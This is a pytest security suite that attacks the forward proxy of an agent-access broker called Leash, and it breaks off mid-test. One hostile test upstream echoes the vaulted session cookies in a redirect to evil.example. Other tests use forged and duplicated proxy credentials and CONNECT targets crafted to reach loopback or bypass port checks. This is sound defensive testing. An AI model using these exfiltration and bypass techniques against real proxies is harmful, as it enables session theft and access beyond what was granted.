"""An outsider's attacks on the forward proxy's listener (API §16 with §3, §6-§9; ATTACKS 36-45,
53-61), against the real `leash` binary: what a malicious browser agent (holding the `lpx_`
credential of its own grant), a malicious page in that browser, a hostile upstream or a network
peer can do to the proxy, its tunnels, the grant's cookie jar, the held approvals and the audit.

Everything goes over raw sockets (HTTP/1.1 and HTTP/2 frames by hand, TLS by Python's `ssl`
trusting only Leash's proxy CA; the helpers of tests/proxy_fixtures.py) to hostile upstreams of
the test's own (`Hostile`: HTTPS with a test CA given to Leash as `ca_file`, or plain HTTP) that
record every request and answer what a test asks for (cookies for other domains, redirects,
echoes of the injected cookie, trailers, 1xx answers, upgrades). The `Secure` cookie test needs a
non-loopback IPv4 address of this machine (loopback is a secure context, RFC 6265bis), and is
skipped without one.

Each test is one attack and asserts the secure behaviour. The five that failed against the
binary reviewed were findings, fixed since and marked `# FIXED:` (what the review saw, and the
fix)."""

from __future__ import annotations

import base64
import contextlib
import gzip
import hashlib
import ipaddress
import secrets
import socket
import sqlite3
import ssl
import time
import urllib.parse
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import Leash, Setup, Upstream, set_up
from proxy_fixtures import (
    REALM,
    STATIC_STATUS,
    Answer,
    AppRequest,
    Closed,
    Proxy,
    Reader,
    RecordingHandler,
    RecordingUpstream,
    at_proxy,
    basic,
    connect,
    connect_request,
    dial,
    exchange_form,
    h2_frame,
    hpack_literal,
    huffman_digits,
    in_tunnel,
    make_pki,
    pending_approvals,
    plain,
    proxy_listening,
    proxy_toml,
    read_answer,
    revoke,
    tunnel,
    upstream_toml,
)

from leash_agent import Agent, SigningKey

APPROVAL_WAIT = 3


def external_address() -> str | None:
    """A non-loopback IPv4 address of this machine (the one its default route leaves from; a UDP
    `connect` sends nothing), or None."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return None
        address: str = probe.getsockname()[0]
    if ipaddress.ip_address(address).is_loopback or address == "0.0.0.0":
        return None
    try:
        with socket.create_server((address, 0)):
            return address
    except OSError:
        return None


EXTERNAL = external_address()


# --- hostile upstreams ----------------------------------------------------------------------------


class Hostile(RecordingUpstream):
    """An upstream app (HTTPS with `context`, or plain HTTP) that records every request and
    answers by path (the query is the test's script):

    - any `c=COOKIE` in the query: one `Set-Cookie: COOKIE` each on the answer;
    - `/x/set?status=N`: N (default 200);
    - `/x/bomb?prefix=P&n=N&size=S`: N cookies `P0`... of S bytes each;
    - `/x/go?to=URL`: 302 to `URL`;
    - `/x/echo/header`, `/x/echo/gzip`, `/x/echo/split`, `/x/echo/location`: the values of the
      request's cookies (those named `only`, if given) echoed in a header, in a gzip-encoded
      body, in a chunked body whose chunks split each value in two, in a redirect's `Location`;
    - `/x/trailer`: a chunked answer whose trailers set a cookie and a `Leash-Decision`;
    - `/x/early`: a `103 Early Hints` that sets a cookie, then 200;
    - `/x/decision`: a 403 that carries `Leash-Decision: approval_required`;
    - `/ws`: `101 Switching Protocols` to a WebSocket upgrade; `/x/switch`: the same, asked
      or not, then whatever bytes come next are recorded as a request `RAW`;
    - anything else: 200 `ok METHOD PATH`."""

    def handler(self) -> type[RecordingHandler]:
        app = self

        class Handler(RecordingHandler):
            server_version = "Hostile/1"
            upstream = app

            extra: tuple[tuple[str, str], ...] = ()

            def send(
                self, status: int, body: bytes, headers: list[tuple[str, str]] | None = None
            ) -> None:
                self.send_response(status)
                for name, value in [*(headers or []), *self.extra]:
                    self.send_header(name, value)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def handle_any(self) -> None:
                request = self.record()
                split = urllib.parse.urlsplit(self.path)
                query = urllib.parse.parse_qs(split.query)
                path = split.path
                only = query.get("only")
                cookies = [v for n, v in request.cookies() if not only or n in only]
                self.extra = tuple(("Set-Cookie", c) for c in query.get("c", []))
                if path.endswith("/x/set"):
                    return self.send(int(query.get("status", ["200"])[0]), b"set")
                if path.endswith("/x/bomb"):
                    prefix, count = query["prefix"][0], int(query["n"][0])
                    value = "v" * int(query["size"][0])
                    bomb = [("Set-Cookie", f"{prefix}{i}={value}; Path=/") for i in range(count)]
                    return self.send(200, b"bomb", bomb)
                if path.endswith("/x/go"):
                    return self.send(302, b"moved", [("Location", query["to"][0])])
                if path.endswith("/x/echo/header"):
                    return self.send(200, b"echo", [("X-Echo", " ".join(cookies))])
                if path.endswith("/x/echo/gzip"):
                    packed = gzip.compress(("seen: " + " ".join(cookies)).encode())
                    return self.send(200, packed, [("Content-Encoding", "gzip")])
                if path.endswith("/x/echo/location"):
                    where = "https://evil.example/?c=" + urllib.parse.quote(" ".join(cookies))
                    return self.send(302, b"moved", [("Location", where)])
                if path.endswith("/x/echo/split"):
                    self.send_response(200)
                    self.send_header("Content-Type", "text/plain")
                    self.send_header("Transfer-Encoding", "chunked")
                    self.end_headers()
                    for value in cookies:
                        half = len(value) // 2
                        for part in (b"seen: " + value[:half].encode(), value[half:].encode()):
                            self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
                            self.wfile.flush()
                            time.sleep(0.05)
                    self.wfile.write(b"0\r\n\r\n")
                    return None
                if path.endswith("/x/trailer"):
                    self.send_response(200)
                    self.send_header("Content-Type", "text/plain")
                    self.send_header("Transfer-Encoding", "chunked")
                    self.send_header("Trailer", "Set-Cookie, Leash-Decision")
                    self.end_headers()
                    self.wfile.write(
                        b"2\r\nok\r\n0\r\nSet-Cookie: trailer=1; Path=/\r\n"
                        b"Leash-Decision: approval_required\r\n\r\n"
                    )
                    return None
                if path.endswith("/x/early"):
                    self.wfile.write(
                        b"HTTP/1.1 103 Early Hints\r\nSet-Cookie: early=1; Path=/\r\n"
                        b"Link: </style.css>; rel=preload\r\n\r\n"
                    )
                    return self.send(200, b"after hints")
                if path.endswith("/x/decision"):
                    return self.send(403, b"fake", [("Leash-Decision", "approval_required")])
                switch = path.endswith("/x/switch")
                if switch or (path == "/ws" and "websocket" in self.headers.get("Upgrade", "")):
                    self.send_response(101)
                    self.send_header("Upgrade", "websocket")
                    self.send_header("Connection", "Upgrade")
                    self.send_header("Sec-WebSocket-Accept", "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=")
                    self.end_headers()
                    self.wfile.write(b"\x81\x05hello")
                    self.wfile.flush()
                    self.connection.settimeout(1)
                    with contextlib.suppress(OSError):
                        raw = self.connection.recv(65536)
                        if raw:
                            app.add(AppRequest("RAW", path, (), raw))
                    self.close_connection = True
                    return None
                return self.send(200, f"ok {self.command} {self.path}".encode())

            do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = handle_any
            do_OPTIONS = do_TRACE = do_CONNECT = handle_any

        return Handler


# --- the rig: Leash with a proxy in front of the hostile upstreams --------------------------------


SHOP_ROUTES = [
    ("GET", "/r/**", "read"),
    ("GET", "/x/**", "read"),
    ("GET", "/ws", "read"),
    ("POST", "/r/**", "write"),
    ("DELETE", "/r/**", "delete"),
    ("POST", "/pay", "pay"),
]
READ_ROUTES = [("GET", "/r/**", "read"), ("GET", "/x/**", "read")]


@dataclass
class Rig(Proxy):
    app: Hostile  # `shop` (https://localhost:PORT) and `twin` (https://127.0.0.1:PORT)
    other: Hostile  # `other` (https://localhost:PORT2), which no grant of these tests names
    plain: Hostile  # `plain` (http://EXTERNAL:PORT3, or 127.0.0.1 without one)
    safe: Hostile  # `safe` (https://EXTERNAL:PORT4, or 127.0.0.1 without one)

    @property
    def api_port(self) -> int:
        return int(self.leash.url.rsplit(":", 1)[1])

    def apps(self) -> list[Hostile]:
        return [self.app, self.other, self.plain, self.safe]

    def marks(self) -> list[int]:
        return [app.mark() for app in self.apps()]

    def since(self, marks: list[int]) -> list[AppRequest]:
        """Every request any upstream received after `marks`."""
        return [r for app, m in zip(self.apps(), marks, strict=True) for r in app.since(m)]

    def serving(self) -> bool:
        return self.leash.process.poll() is None and (
            self.leash.http.get("/healthz").status_code == 200
        )


def rig_config(apps: list[Hostile], ca_file: Path) -> str:
    app, other, plain_app, safe = apps
    outside = EXTERNAL or "127.0.0.1"
    tables = [
        ("shop", f"https://localhost:{app.port}", SHOP_ROUTES, ca_file),
        ("twin", f"https://127.0.0.1:{app.port}", READ_ROUTES, ca_file),
        ("plain", f"http://{outside}:{plain_app.port}", READ_ROUTES, None),
        ("safe", f"https://{outside}:{safe.port}", READ_ROUTES, ca_file),
        ("other", f"https://localhost:{other.port}", [("GET", "/r/**", "read")], ca_file),
    ]
    return proxy_toml(APPROVAL_WAIT) + "".join(
        upstream_toml(name, url, [f"{name}.test"], routes, ca, high_risk={"pay"})
        for name, url, routes, ca in tables
    )


@contextlib.contextmanager
def started_rig(
    upstream: Upstream,
    directory: Path,
    env: dict[str, str] | None = None,
    limits: str | None = None,
) -> Iterator[Rig]:
    outside = EXTERNAL or "127.0.0.1"
    ca_file, context = make_pki(directory, sorted({"127.0.0.1", outside}), "Hostile test CA")
    apps = [Hostile(context), Hostile(context), Hostile(None, outside), Hostile(context, outside)]
    options: dict[str, Any] = {} if limits is None else {"limits": limits}
    leash = Leash(upstream, rig_config(apps, ca_file), env=env, **options)
    try:
        proxy_ca = directory / "leash-proxy-ca.pem"
        yield Rig(leash, proxy_listening(leash, proxy_ca), proxy_ca, "shop.test", *apps)
    finally:
        alive = leash.process.poll() is None
        last_words = "".join(leash.output[-30:])
        leash.stop()
        for app in apps:
            app.stop()
        assert alive, "the server died:\n" + last_words


@pytest.fixture(scope="module")
def rig(upstream: Upstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rig]:
    with started_rig(upstream, tmp_path_factory.mktemp("rig")) as started:
        yield started


@pytest.fixture(autouse=True)
def still_serving(request: pytest.FixtureRequest) -> Iterator[None]:
    """After each test that used the module's server: it is alive and its API answers."""
    yield
    if "rig" in request.fixturenames:
        rig: Rig = request.getfixturevalue("rig")
        assert rig.serving(), "".join(rig.leash.output[-30:])


# --- a human, a grant, a vaulted session, the agent's credential ----------------------------------


@dataclass
class Task:
    rig: Rig
    setup: Setup
    agent: Agent
    sid: str  # the session the human vaulted for `shop` (cookie `sid`)
    credential: str

    @property
    def leash(self) -> Leash:
        return self.rig.leash

    @property
    def grant_id(self) -> str:
        return self.setup.grant_id

    def events(self) -> list[dict[str, Any]]:
        return self.leash.audit(self.setup.grant_id)

    def pending(self) -> list[dict[str, Any]]:
        return pending_approvals(self.leash, self.setup)

    def end(self, how: str = "revoke") -> None:
        answer = self.leash.call("POST", f"/v1/grants/{self.grant_id}/{how}", self.setup.user_key)
        assert answer.status_code == 200, answer.text


def proxy_credential(leash: Leash, setup: Setup, agent: Agent, scope: str | None = None) -> str:
    """The agent's `lpx_` credential for its grant (token exchange, API §3.1 and §16)."""
    now = agent._now()
    form = exchange_form(agent, setup.handle, scope=scope, now=now)
    proof = SigningKey.generate().dpop_proof("POST", leash.url + "/oauth2/token", now)
    answer = leash.http.post("/oauth2/token", data=form, headers={"DPoP": proof})
    assert answer.status_code == 200, answer.text
    credential: str = answer.json()["access_token"]
    assert credential.startswith("lpx_"), credential[:8]
    return credential


def access_token(leash: Leash, setup: Setup, agent: Agent) -> tuple[str, SigningKey]:
    """An ordinary DPoP-bound access token of the same grant, and its DPoP key."""
    now = agent._now()
    key = SigningKey.generate()
    form = exchange_form(agent, setup.handle, token_type=None, now=now)
    proof = key.dpop_proof("POST", leash.url + "/oauth2/token", now)
    answer = leash.http.post("/oauth2/token", data=form, headers={"DPoP": proof})
    assert answer.status_code == 200, answer.text
    token: str = answer.json()["access_token"]
    return token, key


def as_agent(task: Task, method: str, path: str) -> httpx.Response:
    """`method path` on Leash's API with an access token of the task's grant and its proof."""
    token, key = access_token(task.leash, task.setup, task.agent)
    url = task.leash.url + path
    proof = key.dpop_proof(method, url, task.agent._now(), access_token=token)
    return task.leash.http.request(
        method, url, headers={"Authorization": f"DPoP {token}", "DPoP": proof}
    )


def new_task(
    rig: Rig,
    directory: Path,
    *,
    same_human_as: Task | None = None,
    scope: str | None = None,
    **grant: Any,
) -> Task:
    fields: dict[str, Any] = {
        "upstreams": ["shop", "twin", "plain", "safe"],
        "actions": [
            "shop:read",
            "shop:write",
            "shop:pay",
            "twin:read",
            "plain:read",
            "safe:read",
        ],
        "approval_required": [],
        "purpose": "Buy the supplies",
        **grant,
    }
    setup = set_up(rig.leash, directory, **fields)
    sid = "vaulted-" + secrets.token_urlsafe(18)
    if same_human_as is not None:
        # A second grant of that human to this agent (the one set_up made is revoked unused).
        rig.leash.call("POST", f"/v1/grants/{setup.grant_id}/revoke", setup.user_key)
        setup.user_key = same_human_as.setup.user_key
        setup.grant = rig.leash.grant(setup.user_key, setup.agent_id, **fields)
        sid = same_human_as.sid
    else:
        answer = rig.leash.call(
            "PUT", "/v1/vault/shop", setup.user_key, {"kind": "cookie", "secret": f"sid={sid}"}
        )
        assert answer.status_code in (200, 201, 204), answer.text
    agent = Agent.from_jwk_file(rig.leash.url, setup.agent_id, setup.key_file)
    return Task(rig, setup, agent, sid, proxy_credential(rig.leash, setup, agent, scope))


@pytest.fixture
def make_task(rig: Rig, tmp_path: Path) -> Iterator[Callable[..., Task]]:
    made: list[Task] = []

    def make(**options: Any) -> Task:
        task = new_task(rig, tmp_path, **options)
        made.append(task)
        return task

    yield make
    for task in made:
        task.agent.close()


@pytest.fixture
def task(make_task: Callable[..., Task]) -> Task:
    return make_task()


# --- HTTP/1.1 by hand -----------------------------------------------------------------------------


def get(path: str, host: str = "shop.test", extra: str = "", method: str = "GET") -> str:
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n"


def query(path: str, **params: str | list[str]) -> str:
    """`path` with `params` as its query (a list: the parameter repeated)."""
    pairs = [(k, v) for k, vs in params.items() for v in ([vs] if isinstance(vs, str) else vs)]
    return path + "?" + urllib.parse.urlencode(pairs)


def leash_page(answer: Answer, status: int, decision: str | None = None) -> None:
    """`answer` is Leash's own refusal: `status`, a `Leash-Decision` (`decision`, if given), an
    HTML page that sets no cookie."""
    assert answer.status == status, (answer.status, answer.raw[:400])
    decisions = answer.header("leash-decision")
    assert decisions, answer.raw[:400]
    if decision is not None:
        assert decisions == [decision], decisions
    assert not answer.header("set-cookie"), answer.headers


def tunnel_refused(rig: Rig, credential: str, request: bytes | str, **options: Any) -> str:
    """`request` in a tunnel of its own must be refused by Leash (a 4xx of its own, or the
    tunnel closed unanswered); returns how."""
    try:
        answer = in_tunnel(rig, credential, request, **options)
    except (Closed, ssl.SSLError, ConnectionError) as error:
        return f"closed: {error!r}"[:120]
    assert 400 <= answer.status < 500, (answer.status, answer.raw[:300])
    assert answer.header("leash-decision") or not answer.header("server"), answer.raw[:300]
    return str(answer.status)


# --- HTTP/2 by hand (RFC 9113; HPACK literals without Huffman, RFC 7541) --------------------------

# SETTINGS: HEADER_TABLE_SIZE 0 (so that every `:status` comes as a literal or a static index).
CLIENT_SETTINGS = (1).to_bytes(2, "big") + (0).to_bytes(4, "big")


def hpack_read_int(block: bytes, at: int, prefix: int) -> tuple[int, int]:
    """RFC 7541 §5.1: the integer at `at` with a `prefix`-bit prefix, and where it ends."""
    top = (1 << prefix) - 1
    value = block[at] & top
    at += 1
    if value < top:
        return value, at
    shift = 0
    while True:
        byte = block[at]
        at += 1
        value += (byte & 0x7F) << shift
        shift += 7
        if not byte & 0x80:
            return value, at


def h2_status(block: bytes) -> str:
    """The `:status` of a response header block: its fields are walked (names and values are
    not decoded, but for `:status`, whose value holds only digits)."""
    at = 0
    while at < len(block):
        first = block[at]
        if first & 0x80:  # indexed field
            index, at = hpack_read_int(block, at, 7)
            if index in STATIC_STATUS:
                return STATIC_STATUS[index]
            continue
        if first & 0xE0 == 0x20:  # dynamic table size update
            _, at = hpack_read_int(block, at, 5)
            continue
        prefix = 6 if first & 0x40 else 4
        index, at = hpack_read_int(block, at, prefix)
        if index == 0:  # a literal name
            length, at = hpack_read_int(block, at, 7)
            at += length
        huffman = bool(block[at] & 0x80)
        length, at = hpack_read_int(block, at, 7)
        value, at = block[at : at + length], at + length
        if index == 8:
            return huffman_digits(value) if huffman else value.decode()
    return "none"


@dataclass
class H2Answer:
    status: str = ""
    body: bytes = b""
    reset: int | None = None  # RST_STREAM's error code
    done: bool = False


@dataclass
class H2:
    """A client connection speaking HTTP/2 on `tls` (ALPN h2)."""

    tls: ssl.SSLSocket
    streams: dict[int, H2Answer] = field(default_factory=dict)
    settings: dict[int, int] = field(default_factory=dict)
    goaway: bytes | None = None
    next_stream: int = 1
    buffer: bytes = b""

    def __post_init__(self) -> None:
        self.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, CLIENT_SETTINGS))

    def write(self, data: bytes) -> None:
        """Sends `data`; a connection the server closed meanwhile is not an error here."""
        with contextlib.suppress(OSError):
            self.tls.sendall(data)

    def send(
        self,
        headers: list[tuple[str, str]] | list[tuple[bytes, bytes]],
        body: bytes = b"",
        end: bool = True,
    ) -> int:
        stream = self.next_stream
        self.next_stream += 2
        block = b"".join(
            hpack_literal(
                k.encode() if isinstance(k, str) else k, v.encode() if isinstance(v, str) else v
            )
            for k, v in headers
        )
        self.streams[stream] = H2Answer()
        data = h2_frame(1, 0x4 | (0 if body or not end else 0x1), stream, block)
        if body:
            data += h2_frame(0, 0x1 if end else 0, stream, body)
        self.write(data)
        return stream

    def request(
        self,
        method: str,
        path: str,
        authority: str | None = "shop.test",
        headers: list[tuple[str, str]] | None = None,
        body: bytes = b"",
    ) -> int:
        pseudo = [(":method", method), (":scheme", "https"), (":path", path)]
        if authority is not None:
            pseudo.append((":authority", authority))
        return self.send(pseudo + (headers or []), body)

    def wait(self, stream: int, timeout: float = 10) -> H2Answer:
        deadline = time.monotonic() + timeout
        answer = self.streams.setdefault(stream, H2Answer())
        while not answer.done and time.monotonic() < deadline:
            self.tls.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                chunk = self.tls.recv(65536)
            except (TimeoutError, ssl.SSLError, OSError):
                break
            if not chunk:
                break
            self.buffer += chunk
            self.frames()
        return answer

    def frames(self) -> None:
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
            answer = self.streams.get(stream, H2Answer())
            if kind == 4 and not flags & 1:  # SETTINGS
                for i in range(0, len(payload), 6):
                    self.settings[int.from_bytes(payload[i : i + 2], "big")] = int.from_bytes(
                        payload[i + 2 : i + 6], "big"
                    )
                self.write(h2_frame(4, 1, 0, b""))
            elif kind == 6 and not flags & 1:  # PING
                self.write(h2_frame(6, 1, 0, payload))
            elif kind == 7:  # GOAWAY
                self.goaway = payload
            elif kind == 3:  # RST_STREAM
                answer.reset = int.from_bytes(payload[:4], "big")
                answer.done = True
            elif kind == 1:  # HEADERS
                if flags & 0x8:
                    payload = payload[1 : len(payload) - payload[0]]
                if flags & 0x20:
                    payload = payload[5:]
                if not answer.status:
                    answer.status = h2_status(payload)
                answer.done = answer.done or bool(flags & 0x1)
            elif kind == 0:  # DATA
                if flags & 0x8:
                    payload = payload[1 : len(payload) - payload[0]]
                answer.body += payload
                answer.done = answer.done or bool(flags & 0x1)
                if payload and not answer.done:
                    grow = len(payload).to_bytes(4, "big")
                    self.write(h2_frame(8, 0, 0, grow) + h2_frame(8, 0, stream, grow))


@contextlib.contextmanager
def h2_tunnel(rig: Rig, credential: str, host: str | None = None) -> Iterator[H2]:
    with tunnel(rig, credential, host, alpn=("h2",)) as tls:
        assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
        yield H2(tls)


# === Proxy-Authorization and the credential's life ================================================


def test_malformed_duplicated_or_foreign_proxy_credentials_get_a_bare_407(
    rig: Rig, make_task: Callable[..., Task]
) -> None:
    task, other = make_task(), make_task()
    good, foreign = basic(task.credential), basic(other.credential)
    marks = rig.marks()
    b64 = base64.b64encode

    def twice(first: str, second: str) -> bytes:
        return f"Proxy-Authorization: {first}\r\nProxy-Authorization: {second}".encode()

    variants: dict[str, bytes] = {
        "none": b"",
        "user other than leash": f"Proxy-Authorization: {basic(task.credential, 'bob')}".encode(),
        "empty user": f"Proxy-Authorization: {basic(task.credential, '')}".encode(),
        "no colon": b"Proxy-Authorization: Basic " + b64(task.credential.encode()),
        "good then garbage": twice(good, "Basic eHg6eQ=="),
        "garbage then good": twice("Basic eHg6eQ==", good),
        "two grants' credentials": twice(good, foreign),
        "two in one header": f"Proxy-Authorization: {good}, {foreign}".encode(),
        "not UTF-8 inside": b"Proxy-Authorization: Basic "
        + b64(b"leash:\xff\xfe" + task.credential.encode()),
        "not UTF-8 header": b"Proxy-Authorization: Basic \xff\xfe",
        "NUL appended": f"Proxy-Authorization: {basic(task.credential + chr(0))}".encode(),
        "newline appended": f"Proxy-Authorization: {basic(task.credential + chr(10))}".encode(),
        "one byte more": f"Proxy-Authorization: {basic(task.credential + 'A')}".encode(),
        "as Authorization": f"Authorization: {good}".encode(),
        "as Bearer": f"Proxy-Authorization: Bearer {task.credential}".encode(),
        "as a cookie": f"Cookie: lpx={task.credential}".encode(),
    }
    for name, header in variants.items():
        line = header + b"\r\n" if header else b""
        for request in (
            b"CONNECT shop.test:443 HTTP/1.1\r\nHost: shop.test:443\r\n" + line + b"\r\n",
            b"GET http://shop.test/r/1 HTTP/1.1\r\nHost: shop.test\r\n"
            + line
            + b"Connection: close\r\n\r\n",
        ):
            answer = at_proxy(rig, request)
            leash_page(answer, 407, "invalid_token")
            assert answer.header("proxy-authenticate") == [REALM], (name, answer.headers)
            # The page names no credential, neither the one sent nor another.
            for secret in (task.credential, other.credential, good[6:], task.sid):
                assert secret.encode() not in answer.raw, name
    # A huge one is refused before anything is parsed.
    huge = at_proxy(rig, connect_request("shop.test:443", "Basic " + "A" * 300_000))
    assert huge.status in (400, 407, 431), huge.status
    assert rig.since(marks) == []


def test_a_credential_opens_only_its_own_grant_and_each_plain_request_is_authenticated(
    rig: Rig, make_task: Callable[..., Task]
) -> None:
    mine = make_task(upstreams=["twin"], actions=["twin:read"])
    other = make_task()
    marks = rig.marks()
    # Its grant names twin only.
    leash_page(connect(rig, "shop.test:443", basic(mine.credential)), 403)
    leash_page(plain(rig, "http://shop.test/r/1", basic(mine.credential)), 403)
    # A narrowed credential of a wide grant acts only within its scope.
    narrow = new_task(rig, Path(mine.setup.key_file).parent, scope="shop:read")
    leash_page(in_tunnel(rig, narrow.credential, get("/r/w", method="POST")), 403)
    assert rig.since(marks) == []
    # A second credential inside a tunnel opened by the first changes nothing: the tunnel's
    # grant and its human's session are used, and the header goes no further.
    answer = in_tunnel(
        rig,
        other.credential,
        get("/r/inner", extra=f"Proxy-Authorization: {basic(narrow.credential)}\r\n"),
    )
    assert answer.status == 200, answer.raw[:300]
    (got,) = rig.since(marks)
    assert got.header("leash-grant") == [other.grant_id]
    assert got.cookies() == [("sid", other.sid)]
    assert not got.header("proxy-authorization")
    # On one plain-HTTP connection, every request is authenticated by its own header.
    marks = rig.marks()
    with dial(rig) as sock:
        reader = Reader(sock, 10)
        for path, credential, status in (
            ("/r/p1", other.credential, 200),
            ("/r/p2", None, 407),
            ("/r/p3", narrow.credential, 200),
            ("/r/p4", "lpx_forged.AAAA", 407),
        ):
            auth = f"Proxy-Authorization: {basic(credential)}\r\n" if credential else ""
            request = f"GET http://shop.test{path} HTTP/1.1\r\nHost: shop.test\r\n{auth}\r\n"
            sock.sendall(request.encode())
            try:
                answer = read_answer(sock, reader=reader)
            except Closed:
                break  # the refusal closed the connection: nothing more can come on it
            assert answer.status == status, (path, answer.status)
    received = {r.path: r for r in rig.since(marks)}
    assert set(received) <= {"/r/p1", "/r/p3"}, sorted(received)
    assert received["/r/p1"].header("leash-grant") == [other.grant_id]
    if "/r/p3" in received:
        assert received["/r/p3"].header("leash-grant") == [narrow.grant_id]
        assert received["/r/p3"].cookies() == [("sid", narrow.sid)]
    narrow.agent.close()


def keep_alive(path: str, host: str = "shop.test") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


@pytest.mark.parametrize("ending", ["revoke", "complete", "agent completes", "credential revoked"])
def test_ending_the_grant_or_the_credential_stops_open_tunnels_at_once(
    rig: Rig, make_task: Callable[..., Task], ending: str
) -> None:
    task = make_task()
    with tunnel(rig, task.credential) as tls, h2_tunnel(rig, task.credential) as h2:
        reader = Reader(tls, 10)
        tls.sendall(keep_alive("/r/before"))
        assert read_answer(tls, reader=reader).status == 200
        assert h2.wait(h2.request("GET", "/r/before-h2")).status == "200"
        marks = rig.marks()
        if ending in ("revoke", "complete"):
            task.end(ending)
        elif ending == "agent completes":
            done = as_agent(task, "POST", f"/v1/grants/{task.grant_id}/complete")
            assert done.status_code == 200, done.text
        else:
            done = revoke(task.leash, task.credential, task.setup.user_key)
            assert done.status_code == 200, done.text
        # At once: the very next request on each open tunnel.
        tls.sendall(keep_alive("/r/after"))
        with contextlib.suppress(Closed):
            answer = read_answer(tls, reader=reader)
            leash_page(answer, 407, "invalid_token")
            assert answer.header("proxy-authenticate") == [REALM]
        refused = h2.wait(h2.request("GET", "/r/after-h2"))
        assert refused.status == "407" or refused.reset is not None, refused
    leash_page(connect(rig, "shop.test:443", basic(task.credential)), 407, "invalid_token")
    leash_page(plain(rig, "http://shop.test/r/3", basic(task.credential)), 407, "invalid_token")
    assert rig.since(marks) == []


def test_an_expired_credential_stops_an_open_tunnel(
    rig: Rig, make_task: Callable[..., Task]
) -> None:
    task = make_task(ttl_seconds=2)
    with tunnel(rig, task.credential) as tls:
        reader = Reader(tls, 10)
        tls.sendall(keep_alive("/r/before"))
        assert read_answer(tls, reader=reader).status == 200
        marks = rig.marks()
        time.sleep(2.3)
        tls.sendall(keep_alive("/r/after"))
        with contextlib.suppress(Closed):
            leash_page(read_answer(tls, reader=reader), 407, "invalid_token")
    leash_page(connect(rig, "shop.test:443", basic(task.credential)), 407, "invalid_token")
    assert rig.since(marks) == []


def test_max_requests_and_single_use_actions_hold_through_the_proxy(
    rig: Rig, make_task: Callable[..., Task]
) -> None:
    """ATTACKS 45; API §2: `max_requests` and `single_use` count requests through the proxy."""
    counted = make_task(max_requests=2)
    marks = rig.marks()
    for i in range(2):
        assert in_tunnel(rig, counted.credential, get(f"/r/{i}")).status == 200
    for _ in range(2):
        try:
            answer = in_tunnel(rig, counted.credential, get("/r/more"))
        except AssertionError:  # the CONNECT itself was refused
            continue
        assert answer.status in (401, 403, 407, 429), answer.status
    assert [r.path for r in rig.since(marks)] == ["/r/0", "/r/1"]
    once = make_task(single_use=["shop:write"])
    marks = rig.marks()
    post = (
        "POST /r/once HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 1\r\n"
        "Connection: close\r\n\r\nx"
    )
    assert in_tunnel(rig, once.credential, post).status == 200
    for _ in range(2):
        tunnel_refused(rig, once.credential, post)
    assert [r.path for r in rig.since(marks)] == ["/r/once"]


# === What the browser asks the proxy for ==========================================================


def test_connect_to_hosts_outside_the_grant_addresses_or_leash_itself_is_refused(
    rig: Rig, task: Task
) -> None:
    good = basic(task.credential)
    marks = rig.marks()
    refused = [
        "other.test:443",  # a configured upstream's host outside the grant
        "mail:443",  # an upstream without hosts, by name
        "shop.test.:443",  # trailing dot: another name for the browser
        "a.shop.test:443",
        "*.shop.test:443",
        "xn--shp-sna.test:443",  # punycode of a look-alike
        "[shop.test]:443",
        f"localhost:{rig.app.port}",  # the upstream's real address
        f"127.0.0.1:{rig.app.port}",
        f"[::1]:{rig.app.port}",
        "2130706433:443",
        "0x7f000001:443",
        f"127.0.0.1:{rig.api_port}",  # Leash's own API
        f"localhost:{rig.api_port}",
        f"127.0.0.1:{rig.proxy_port}",  # the proxy itself
        "shop.test:8443",  # another port of a granted host
        "plain.test:80",
    ]
    for target in refused:
        answer = connect(rig, target, good)
        assert answer.status in (400, 403), (target, answer.status)
        assert answer.header("leash-decision"), (target, answer.headers)
    malformed = [
        "user@shop.test:443",
        "shop.test:443@other.test:443",
        "other.test:443#shop.test",
        "shöp.test:443",
        "shop.test%00.other.test:443",
        "shop.test:443/x",
        "shop.test :443",
        "shop.test:443:443",
    ]
    for target in malformed:
        answer = connect(rig, target, good)
        assert answer.status == 400, (target, answer.status)
    assert rig.since(marks) == []


def test_connect_targets_with_a_malformed_port_are_refused(rig: Rig, task: Task) -> None:
    # FIXED (ports are parsed strictly, `proxy::front::port_of`; CONNECT takes host:port only):
    # `CONNECT shop.test:65979` (65979 = 443 + 65536), `shop.test:443x`,
    # `shop.test:+443`, `shop.test:-1` and `shop.test:` (empty port) each open a tunnel (200),
    # while `shop.test:8443` and `shop.test:0` are refused (403): a port that does not parse as
    # a u16 is read as the default instead of refused, so the port check is bypassed by any
    # malformed port. `CONNECT https://shop.test:443` (absolute-form, RFC 9110 §9.3.6 allows
    # only authority-form) opens one too. Expected: 400 for each (a malformed request target).
    good = basic(task.credential)
    opened = []
    for target in (
        "shop.test:65979",
        "shop.test:443x",
        "shop.test:+443",
        "shop.test:-1",
        "shop.test:",
        "https://shop.test:443",
    ):
        answer = connect(rig, target, good)
        if answer.status == 200:
            opened.append(target)
    assert opened == [], f"tunnels opened for {opened}"


def test_plain_requests_cannot_reach_leash_the_real_upstream_or_another_host(
    rig: Rig, task: Task
) -> None:
    good = f"Proxy-Authorization: {basic(task.credential)}\r\n"
    marks = rig.marks()
    api = f"127.0.0.1:{rig.api_port}"

